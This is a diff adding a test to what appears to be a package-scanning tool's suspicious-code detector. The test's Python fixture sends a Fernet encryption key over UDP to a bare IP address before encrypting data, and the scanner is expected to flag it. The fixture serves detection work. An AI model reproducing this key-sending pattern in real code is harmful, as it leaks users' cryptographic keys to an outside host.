@@ -621,3 +621,20 @@ test('a key that one house is shown to sign in, told another, whatever it is cal
     await inspect('secret-parameter', wheel({ 'pkg/a.py': client('status.router.invalid', 'Authorization') })),
   ).toEqual([]);
 });
+
+test('the key of a cipher, told a bare address, is held; told the vendor that keeps it, it is used', async () => {
+  const locker = (place: string): string =>
+    python(
+      'import socket',
+      'from cryptography.fernet import Fernet',
+      'def lock(data, key):',
+      '    line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
+      `    line.sendto(key, ('${place}', 9999))`,
+      '    return Fernet(key).encrypt(data)',
+    );
+
+  expect(await inspect('secret-parameter', wheel({ 'pkg/a.py': locker('203.0.113.7') }))).toMatchObject([
+    { class: 'suspicious', score: 6, context: 'call', line: 5 },
+  ]);
+  expect(await inspect('secret-parameter', wheel({ 'pkg/a.py': locker('keys.vendor.invalid') }))).toEqual([]);
+});
